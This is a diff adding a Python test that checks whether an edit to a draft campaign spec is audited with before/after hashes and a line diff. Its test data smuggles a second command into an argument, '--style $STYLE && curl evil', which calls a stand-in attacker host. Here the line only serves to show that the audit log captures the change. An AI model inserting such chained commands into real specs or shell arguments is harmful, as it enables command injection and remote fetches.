@@ -212,3 +212,24 @@ def test_registering_a_repository_is_audited_once(client, manager, settings):
     assert event.actor_id == str(manager.pk)
     assert json.loads(event.body)["payload"] == {"urls": [f"file://{repo}"], "tags": ["infra"]}
     assert Repository.objects.filter(url=f"file://{repo}").count() == 1
+
+
+def test_a_draft_edit_records_what_changed_in_its_spec(manager):
+    """A draft keeps no revisions and any manager may edit one: the update's event holds the
+    spec's hashes before and after and the line-by-line difference."""
+    import json
+
+    from campaigns.services import campaign_create, campaign_update
+    from tests.factories import user_make
+
+    tag, _ = repos_make(1)
+    draft = campaign_create(actor=manager, source=spec_for(tag, name="d"))
+    bob = user_make(role="manager", username="bob")
+    edited = spec_for(tag, name="d").replace("--style $STYLE", "--style $STYLE && curl evil")
+    campaign_update(campaign=draft, actor=bob, source=edited)
+    (event,) = AuditEvent.objects.filter(action="campaign.campaign.updated")
+    body = json.loads(event.body)
+    assert body["actor"]["display"] == "bob"
+    before, after = body["changes"]["spec"]
+    assert before != after and len(after) == 64
+    assert "+" in body["payload"]["spec_diff"] and "curl evil" in body["payload"]["spec_diff"]
